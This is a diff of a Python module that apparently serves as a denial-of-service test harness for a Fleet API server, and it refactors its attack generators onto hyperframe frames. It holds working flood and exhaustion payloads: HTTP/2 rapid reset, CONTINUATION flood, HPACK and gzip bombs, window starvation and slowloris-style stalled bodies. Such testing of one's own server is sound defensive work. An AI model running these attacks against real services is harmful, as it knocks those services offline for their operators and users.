@@ -1,4 +1,4 @@
-"""The attacks: what one connection of each sends, as a generator of bytes."""
+"""The attacks: what one connection of each sends, frame by frame."""
 
 from __future__ import annotations
 
@@ -6,30 +6,26 @@ import gzip
 import itertools
 import math
 import os
-import struct
+import ssl
 import zlib
 from collections.abc import Callable, Iterator, Mapping
 from functools import partial
 from typing import Any, TypeAlias
 
 import attrs
-from peering.http2 import (
-    END_HEADERS,
-    END_STREAM,
-    INITIAL_WINDOW_SIZE,
-    LARGEST_FRAME,
-    LARGEST_WINDOW,
-    PREFACE,
-    Kind,
-    block,
-    frame,
-    grpc_message,
-    reset,
-    settings,
-    window_update,
+from h2.errors import ErrorCodes
+from hyperframe.frame import (
+    ContinuationFrame,
+    DataFrame,
+    Frame,
+    HeadersFrame,
+    PingFrame,
+    PriorityFrame,
+    RstStreamFrame,
+    SettingsFrame,
+    WindowUpdateFrame,
 )
-
-from abusing.wire import Target
+from peering.http2 import PREFACE, block, grpc_call, grpc_fields, grpc_head
 
 MEGABYTE = 10**6
 
@@ -38,11 +34,45 @@ ANSWER = 64 * MEGABYTE
 ANSWERS = 16
 """How many of them wait; it bounds what the attacks that pull them can take."""
 
-Batch: TypeAlias = tuple[bytes, int]
-"""Bytes that are sent at once, and how many frames (or requests) they are."""
+_LARGEST_FRAME = 16_384
+_LARGEST_WINDOW = 2**31 - 1
+_INITIAL_WINDOW_SIZE = SettingsFrame.INITIAL_WINDOW_SIZE
 
-Script: TypeAlias = Callable[[Target], Iterator[Batch]]
-"""What one connection sends."""
+
+@attrs.frozen
+class Target:
+    """The Fleet API that is attacked, and what its calls look like."""
+
+    address: str
+    rest: bool
+    tls: ssl.SSLContext | None
+    pull: bytes
+    """A PullTaskInsRequest of a node for which large tasks are waiting."""
+    idle_pull: bytes
+    """A PullTaskInsRequest of an anonymous node, for which there are none: all of them are held."""
+
+    def post(self, path: str, length: int | None) -> bytes:
+        """Give the head of a call over REST; None is for a body in chunks."""
+        body = "transfer-encoding: chunked" if length is None else f"content-length: {length}"
+        media = "application/protobuf"
+        return (
+            f"POST /api/v0/fleet/{path} HTTP/1.1\r\nhost: localhost\r\n{body}\r\n"
+            f"content-type: {media}\r\naccept: {media}\r\n\r\n"
+        ).encode()
+
+    def fields(self, call: str) -> list[tuple[bytes, bytes]]:
+        """Give the header fields of a call over gRPC."""
+        return grpc_fields(call, scheme=b"http" if self.tls is None else b"https")
+
+    def call(self, stream: int, call: str, message: bytes) -> list[Frame]:
+        """Give the frames of a whole call over gRPC."""
+        return grpc_call(stream, self.fields(call), message)
+
+
+Pieces: TypeAlias = Iterator[Frame | bytes]
+"""What a connection sends: frames of HTTP/2, or requests and parts of them."""
+
+Script: TypeAlias = Callable[[Target], Pieces]
 
 
 @attrs.frozen(kw_only=True)
@@ -58,6 +88,8 @@ class Attack:
     reads: bool = True
     text: bool = False
     """Whether this is HTTP/1.1, or nothing at all; else it is HTTP/2, and not for REST."""
+    at_once: int = 200
+    """How many pieces are sent together."""
     handshake: bool = True
     """Whether a TLS handshake is completed first."""
     settings: Mapping[int, int] = attrs.field(factory=dict)
@@ -88,7 +120,7 @@ _ENDLESS_HEADS = 5000 * MEGABYTE
 _LARGE = ANSWER * ANSWERS + 100 * MEGABYTE
 _WINDOW_0: Mapping[str, Any] = {
     "connections": 1,
-    "settings": {INITIAL_WINDOW_SIZE: 0},
+    "settings": {_INITIAL_WINDOW_SIZE: 0},
     "large_answers": True,
     "memory_grpc": 2 * ANSWER * ANSWERS + 100 * MEGABYTE,
 }
@@ -110,11 +142,16 @@ def attack(name: str, **how: Any) -> Callable[[Script], Script]:
     return add
 
 
-http1_attack = partial(attack, text=True, rest=True)
+text_attack = partial(attack, text=True, at_once=1)
+http1_attack = partial(text_attack, rest=True)
 
 
 def _streams() -> Iterator[int]:
     return itertools.count(1, 2)
+
+
+def _first_streams() -> range:
+    return range(1, 2 * ANSWERS, 2)
 
 
 def _hpack_length(length: int) -> bytes:
@@ -127,270 +164,232 @@ def _hpack_length(length: int) -> bytes:
     return bytes(encoded)
 
 
-def _flood(one: bytes, times: int) -> Iterator[Batch]:
-    return itertools.repeat((one * times, times))
+def _cut(data: bytes) -> list[bytes]:
+    return [data[start : start + _LARGEST_FRAME] for start in range(0, len(data), _LARGEST_FRAME)]
 
 
-def _first_streams() -> range:
-    return range(1, 2 * ANSWERS, 2)
-
-
-@attack("none", connections=0, text=True)
-def nothing(_: Target) -> Iterator[Batch]:
+@text_attack("none", connections=0)
+def nothing(_: Target) -> Pieces:
     """No attack: what everything else is compared with."""
     yield from ()
 
 
 @attack("rapid reset")
-def rapid_reset(target: Target) -> Iterator[Batch]:
+def rapid_reset(target: Target) -> Pieces:
     """Calls that are held, each given up at once (CVE-2023-44487)."""
-    streams = _streams()
-    while True:
-        yield (
-            b"".join(
-                target.call(stream, "PullTaskIns", target.idle_pull) + reset(stream)
-                for stream in itertools.islice(streams, 50)
-            ),
-            150,
-        )
+    for stream in _streams():
+        yield from target.call(stream, "PullTaskIns", target.idle_pull)
+        yield RstStreamFrame(stream, ErrorCodes.CANCEL)
 
 
-@attack("endless headers", memory_grpc=250 * MEGABYTE)
-def endless_headers(target: Target) -> Iterator[Batch]:
+@attack("endless headers", at_once=50, memory_grpc=250 * MEGABYTE)
+def endless_headers(target: Target) -> Pieces:
     """A head that goes on in CONTINUATION frames without end (CVE-2024-27316)."""
-    fields = block(target.fields("Ping"))
-    yield frame(Kind.HEADERS, END_STREAM, 1, fields), 1
-    more = frame(Kind.CONTINUATION, 0, 1, block([(b"x", bytes(1000))]))
-    yield from _flood(more, 50)
+    yield HeadersFrame(1, block(target.fields("Ping")), flags=["END_STREAM"])
+    yield from itertools.repeat(ContinuationFrame(1, block([(b"x", bytes(1000))])))
 
 
-@attack("CONTINUATION flood", memory_grpc=_ENDLESS_HEADS)
-def continued_headers(target: Target) -> Iterator[Batch]:
+@attack("CONTINUATION flood", at_once=20, memory_grpc=_ENDLESS_HEADS)
+def continued_headers(target: Target) -> Pieces:
     """The same with as many fields in a frame as are let through; each grows tenfold."""
-    yield frame(Kind.HEADERS, END_STREAM, 1, block(target.fields("Ping"))), 1
-    more = frame(Kind.CONTINUATION, 0, 1, b"\0\x01x\x01y" * 430)
-    yield from _flood(more, 20)
+    yield HeadersFrame(1, block(target.fields("Ping")), flags=["END_STREAM"])
+    yield from itertools.repeat(ContinuationFrame(1, b"\0\x01x\x01y" * 430))
 
 
-@attack("HPACK bomb", memory_grpc=_LARGE_HEADS)
-def compressed_headers(target: Target) -> Iterator[Batch]:
+@attack("HPACK bomb", at_once=2, memory_grpc=_LARGE_HEADS)
+def compressed_headers(target: Target) -> Pieces:
     """Heads of 16 KB that unpack to 64 MB: one field of 4 KB, named again and again."""
     known = block(target.fields("Ping"))
     name, value = b"x", b"y" * 4000
     literal = b"\x40" + bytes([len(name)]) + name + _hpack_length(len(value)) + value
-    again = b"\xbe" * (LARGEST_FRAME - 100)
+    again = b"\xbe" * (_LARGEST_FRAME - 100)
     for stream in _streams():
-        first = frame(Kind.HEADERS, END_STREAM, stream, known + literal)
-        yield first + frame(Kind.CONTINUATION, END_HEADERS, stream, again), 2
+        yield HeadersFrame(stream, known + literal, flags=["END_STREAM"])
+        yield ContinuationFrame(stream, again, flags=["END_HEADERS"])
 
 
-@attack("header field of 1 MB", memory_grpc=_LARGE_HEADS)
-def large_header(target: Target) -> Iterator[Batch]:
+@attack("header field of 1 MB", at_once=64, memory_grpc=_LARGE_HEADS)
+def large_header(target: Target) -> Pieces:
     """Heads with one field of 1 MB."""
-    whole = block([*target.fields("Ping"), (b"x", bytes(MEGABYTE))])
-    pieces = [whole[start : start + LARGEST_FRAME] for start in range(0, len(whole), LARGEST_FRAME)]
+    first, *more, last = _cut(block([*target.fields("Ping"), (b"x", bytes(MEGABYTE))]))
     for stream in _streams():
-        frames = [frame(Kind.HEADERS, END_STREAM, stream, pieces[0])]
-        frames += [frame(Kind.CONTINUATION, 0, stream, piece) for piece in pieces[1:-1]]
-        frames += [frame(Kind.CONTINUATION, END_HEADERS, stream, pieces[-1])]
-        yield b"".join(frames), len(frames)
+        yield HeadersFrame(stream, first, flags=["END_STREAM"])
+        yield from (ContinuationFrame(stream, piece) for piece in more)
+        yield ContinuationFrame(stream, last, flags=["END_HEADERS"])
 
 
 @attack("SETTINGS flood, reads nothing", reads=False)
 @attack("SETTINGS flood")
-def settings_flood(_: Target) -> Iterator[Batch]:
+def settings_flood(_: Target) -> Pieces:
     """SETTINGS, each of which has to be acknowledged."""
-    values = itertools.cycle([65_535, 65_534])
-    while True:
-        frames = b"".join(settings({INITIAL_WINDOW_SIZE: next(values)}) for _ in range(200))
-        yield frames, 200
+    for size in itertools.cycle([65_535, 65_534]):
+        yield SettingsFrame(settings={_INITIAL_WINDOW_SIZE: size})
 
 
 @attack("PING flood, reads nothing", reads=False)
 @attack("PING flood")
-def ping_flood(_: Target) -> Iterator[Batch]:
+def ping_flood(_: Target) -> Pieces:
     """PING, each of which has to be answered."""
-    yield from _flood(frame(Kind.PING, 0, 0, b"pingping"), 200)
+    yield from itertools.repeat(PingFrame(opaque_data=b"pingping"))
 
 
 @attack("PRIORITY flood")
-def priority_flood(_: Target) -> Iterator[Batch]:
+def priority_flood(_: Target) -> Pieces:
     """PRIORITY, for streams that are and that are not, in ever new orders (CVE-2019-9513)."""
-    for start in itertools.count(1, 400):
-        frames = [
-            frame(Kind.PRIORITY, 0, stream, struct.pack("!IB", max(0, stream - 2), stream % 256))
-            for stream in range(start, start + 400, 2)
-        ]
-        yield b"".join(frames), len(frames)
+    for stream in _streams():
+        yield PriorityFrame(stream, depends_on=max(0, stream - 2), stream_weight=stream % 256)
 
 
 @attack("empty DATA flood")
-def empty_data(target: Target) -> Iterator[Batch]:
+def empty_data(target: Target) -> Pieces:
     """A body of DATA frames with nothing in them (CVE-2019-9518)."""
-    yield frame(Kind.HEADERS, END_HEADERS, 1, block(target.fields("Ping"))), 1
-    yield from _flood(frame(Kind.DATA, 0, 1, b""), 200)
+    yield HeadersFrame(1, block(target.fields("Ping")), flags=["END_HEADERS"])
+    yield from itertools.repeat(DataFrame(1))
 
 
 @attack(f"{ANSWERS} answers of 64 MB, window 0", **_WINDOW_0)
-def zero_window(target: Target) -> Iterator[Batch]:
+def zero_window(target: Target) -> Pieces:
     """Pulls of large answers, with no room to send them into."""
-    calls = [target.call(stream, "PullTaskIns", target.pull) for stream in _first_streams()]
-    yield b"".join(calls), 2 * len(calls)
+    for stream in _first_streams():
+        yield from target.call(stream, "PullTaskIns", target.pull)
 
 
-@attack(f"{ANSWERS} answers of 64 MB, byte by byte", **_WINDOW_0)
-def tiny_windows(target: Target) -> Iterator[Batch]:
+@attack(f"{ANSWERS} answers of 64 MB, byte by byte", at_once=ANSWERS, **_WINDOW_0)
+def tiny_windows(target: Target) -> Pieces:
     """Pulls of large answers, let through byte by byte."""
     yield from zero_window(target)
-    updates = [window_update(stream, 1) for stream in _first_streams()]
-    while True:
-        yield b"".join(updates), len(updates)
+    for stream in itertools.cycle(_first_streams()):
+        yield WindowUpdateFrame(stream, 1)
 
 
-@attack("streams with half a request", settings={INITIAL_WINDOW_SIZE: LARGEST_WINDOW})
-def half_requests(target: Target) -> Iterator[Batch]:
+@attack(
+    "streams with half a request", at_once=100, settings={_INITIAL_WINDOW_SIZE: _LARGEST_WINDOW}
+)
+def half_requests(target: Target) -> Pieces:
     """Ever more calls whose bodies have begun and never end."""
     fields = block(target.fields("PushTaskRes"))
-    body = struct.pack("!BI", 0, 512 * 2**20) + b"\x0a"
-    streams = _streams()
-    while True:
-        chosen = list(itertools.islice(streams, 50))
-        frames = [
-            frame(Kind.HEADERS, END_HEADERS, stream, fields) + frame(Kind.DATA, 0, stream, body)
-            for stream in chosen
-        ]
-        yield b"".join(frames), 2 * len(frames)
+    begun = grpc_head(512 * 2**20) + b"\x0a"
+    for stream in _streams():
+        yield HeadersFrame(stream, fields, flags=["END_HEADERS"])
+        yield DataFrame(stream, begun)
 
 
 @attack("gzip and deflate bombs", connections=24, rest_after=1, rest=False)
-def compressed_bodies(target: Target) -> Iterator[Batch]:
+def compressed_bodies(target: Target) -> Pieces:
     """A body of 64 KB that unpacks to a thousand times as much, by each of gRPC's two methods."""
     zeros = bytes(55 * 2**20)
     bodies = {b"gzip": gzip.compress(zeros), b"deflate": zlib.compress(zeros)}
-    for number, (name, body) in zip(_streams(), bodies.items(), strict=False):
-        fields = block([*target.fields("PushTaskRes"), (b"grpc-encoding", name)])
-        message = grpc_message(body, compressed=True)
-        pieces = [
-            frame(Kind.DATA, 0, number, message[start : start + LARGEST_FRAME])
-            for start in range(0, len(message), LARGEST_FRAME)
-        ]
-        head = frame(Kind.HEADERS, END_HEADERS, number, fields)
-        yield head + b"".join(pieces) + frame(Kind.DATA, END_STREAM, number, b""), 2 + len(pieces)
+    for stream, (name, body) in zip(_streams(), bodies.items(), strict=False):
+        fields = [*target.fields("PushTaskRes"), (b"grpc-encoding", name)]
+        yield HeadersFrame(stream, block(fields), flags=["END_HEADERS"])
+        yield from (DataFrame(stream, piece) for piece in _cut(grpc_head(len(body), True) + body))
+        yield DataFrame(stream, flags=["END_STREAM"])
 
 
-@attack("streams with a held pull")
-def held_pulls(target: Target) -> Iterator[Batch]:
+@attack("streams with a held pull", at_once=100)
+def held_pulls(target: Target) -> Pieces:
     """Ever more pulls that are held."""
-    streams = _streams()
-    while True:
-        calls = [
-            target.call(stream, "PullTaskIns", target.idle_pull)
-            for stream in itertools.islice(streams, 50)
-        ]
-        yield b"".join(calls), 2 * len(calls)
+    for stream in _streams():
+        yield from target.call(stream, "PullTaskIns", target.idle_pull)
 
 
-@attack("connections without a word", connections=500, text=True)
-def silence(_: Target) -> Iterator[Batch]:
+@text_attack("connections without a word", connections=500)
+def silence(_: Target) -> Pieces:
     """Connections that say nothing."""
     yield from ()
 
 
-@attack("half a handshake", connections=500, text=True, handshake=False)
-def half_a_hello(target: Target) -> Iterator[Batch]:
+@text_attack("half a handshake", connections=500, handshake=False)
+def half_a_hello(target: Target) -> Pieces:
     """Connections that begin with half of what comes first, and no more."""
     if target.tls is None:
-        yield (b"POST /api/v0/fl" if target.rest else b"PRI * HT"), 1
+        yield b"POST /api/v0/fl" if target.rest else b"PRI * HT"
     else:
-        yield b"\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03" + os.urandom(32), 1
+        yield b"\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03" + os.urandom(32)
 
 
-@attack("noise", text=True, handshake=False)
-def noise(_: Target) -> Iterator[Batch]:
+@text_attack("noise", handshake=False)
+def noise(_: Target) -> Pieces:
     """Random bytes instead of a preface."""
     while True:
-        yield os.urandom(1000), 1
+        yield os.urandom(1000)
 
 
-@attack("path or method not UTF-8", rest_after=_AT_ONCE)
-def strange_first_lines(target: Target) -> Iterator[Batch]:
+@attack("path or method not UTF-8", at_once=1, rest_after=_AT_ONCE)
+def strange_first_lines(target: Target) -> Pieces:
     """Calls whose path or method is not ASCII, and not even UTF-8."""
     fields = dict(target.fields("Ping"))
-    for name, value in ((b":path", b"/\xff\xfe"), (b":path", b"/\xc3\xa9"), (b":method", b"P\xff")):
+    strange = ((b":path", b"/\xff\xfe"), (b":path", b"/\xc3\xa9"), (b":method", b"P\xff"))
+    for name, value in strange:
         head = block([*{**fields, name: value}.items()])
-        yield frame(Kind.HEADERS, END_HEADERS | END_STREAM, 1, head), 1
+        yield HeadersFrame(1, head, flags=["END_HEADERS", "END_STREAM"])
 
 
 @http1_attack("WebSocket upgrade", rest_after=_AT_ONCE)
-def websocket_upgrade(_: Target) -> Iterator[Batch]:
+def websocket_upgrade(_: Target) -> Pieces:
     """An upgrade to WebSocket with a byte too many."""
-    head = (
+    yield (
         b"GET /api/v0/fleet/ping HTTP/1.1\r\nhost: x\r\nconnection: upgrade\r\n"
-        b"upgrade: websocket\r\nsec-websocket-version: 13\r\nsec-websocket-key: x\r\n\r\n"
+        b"upgrade: websocket\r\nsec-websocket-version: 13\r\nsec-websocket-key: x\r\n\r\nx"
     )
-    yield head + b"x", 1
 
 
 @http1_attack("upgrade to HTTP/2", rest_after=_AT_ONCE)
-def upgrade_to_http2(_: Target) -> Iterator[Batch]:
+def upgrade_to_http2(_: Target) -> Pieces:
     """An upgrade to HTTP/2 of a request whose path is not ASCII."""
     yield (
         b"GET /\xe9 HTTP/1.1\r\nhost: x\r\nconnection: upgrade, http2-settings\r\n"
-        b"upgrade: h2c\r\nhttp2-settings: AAMAAABkAAQAAP__\r\n\r\n",
-        1,
+        b"upgrade: h2c\r\nhttp2-settings: AAMAAABkAAQAAP__\r\n\r\n"
     )
 
 
-@http1_attack("HTTP/2, unasked", rest_after=_AT_ONCE)
-def prior_knowledge(_: Target) -> Iterator[Batch]:
+@http1_attack("HTTP/2, unasked", at_once=51, rest_after=_AT_ONCE)
+def prior_knowledge(_: Target) -> Pieces:
     """HTTP/2 without having asked for it."""
-    yield PREFACE + settings({}) + frame(Kind.PING, 0, 0, b"pingping") * 50, 51
+    yield PREFACE + SettingsFrame().serialize()
+    yield from itertools.repeat(PingFrame(opaque_data=b"pingping"), 50)
 
 
 @http1_attack("body after its answer", rest_after=_AT_ONCE)
-def body_after_answer(target: Target) -> Iterator[Batch]:
+def body_after_answer(target: Target) -> Pieces:
     """A body that goes on after its early answer."""
-    yield target.post("ping", 10**9), 1
-    for _ in range(50):
-        yield bytes(100), 1
+    yield target.post("ping", 10**9)
+    yield from itertools.repeat(bytes(100), 50)
 
 
 @attack("CONNECT without a path", rest_after=_AT_ONCE)
-def connect_without_path(_: Target) -> Iterator[Batch]:
+def connect_without_path(_: Target) -> Pieces:
     """CONNECT, which has no path."""
     head = block([(b":method", b"CONNECT"), (b":authority", b"localhost")])
-    yield frame(Kind.HEADERS, END_HEADERS | END_STREAM, 1, head), 1
+    yield HeadersFrame(1, head, flags=["END_HEADERS", "END_STREAM"])
 
 
 @http1_attack("HTTP/1.1 head without end")
-def http1_without_end(_: Target) -> Iterator[Batch]:
+def http1_without_end(_: Target) -> Pieces:
     """Header fields of HTTP/1.1 without end."""
-    yield b"POST /api/v0/fleet/ping HTTP/1.1\r\nhost: x\r\n", 1
-    while True:
-        yield b"x: " + b"y" * 200 + b"\r\n", 1
+    yield b"POST /api/v0/fleet/ping HTTP/1.1\r\nhost: x\r\n"
+    yield from itertools.repeat(b"x: " + b"y" * 200 + b"\r\n")
 
 
 @http1_attack("4 bodies in small pieces")
-def trickled_bodies(target: Target) -> Iterator[Batch]:
+def trickled_bodies(target: Target) -> Pieces:
     """Pushes of 512 MiB that have begun, and go on by 4 KB at a time."""
-    yield target.post("push-task-res", 512 * 2**20), 1
-    while True:
-        yield bytes(4096), 1
+    yield target.post("push-task-res", 512 * 2**20)
+    yield from itertools.repeat(bytes(4096))
 
 
 @http1_attack("100 bodies that stall", connections=100, memory=_BODIES)
-def stalled_bodies(target: Target) -> Iterator[Batch]:
+def stalled_bodies(target: Target) -> Pieces:
     """Pushes of 512 MiB of which 40 MB come at once, and then no more."""
-    yield target.post("push-task-res", 512 * 2**20), 1
-    for _ in range(40):
-        yield bytes(MEGABYTE), 1
+    yield target.post("push-task-res", 512 * 2**20)
+    yield from itertools.repeat(bytes(MEGABYTE), 40)
 
 
-@http1_attack("chunks of one byte")
-def chunks_of_one_byte(target: Target) -> Iterator[Batch]:
+@http1_attack("chunks of one byte", at_once=200)
+def chunks_of_one_byte(target: Target) -> Pieces:
     """A body whose every byte is a chunk."""
-    yield target.post("push-task-res", None), 1
-    yield from _flood(b"1\r\nx\r\n", 200)
+    yield target.post("push-task-res", None)
+    yield from itertools.repeat(b"1\r\nx\r\n")
 
 
 @http1_attack(
@@ -400,13 +399,13 @@ def chunks_of_one_byte(target: Target) -> Iterator[Batch]:
     large_answers=True,
     memory=_LARGE,
 )
-def unread_answers(target: Target) -> Iterator[Batch]:
+def unread_answers(target: Target) -> Pieces:
     """A pull of a large answer that nobody reads."""
-    yield target.post("pull-task-ins", len(target.pull)) + target.pull, 1
+    yield target.post("pull-task-ins", len(target.pull)) + target.pull
 
 
-@http1_attack("pulls behind a held pull")
-def pipelined_pulls(target: Target) -> Iterator[Batch]:
+@http1_attack("pulls behind a held pull", at_once=50)
+def pipelined_pulls(target: Target) -> Pieces:
     """Pulls that are held, one behind the other."""
     one = target.post("pull-task-ins", len(target.idle_pull)) + target.idle_pull
-    yield from _flood(one, 50)
+    yield from itertools.repeat(one)
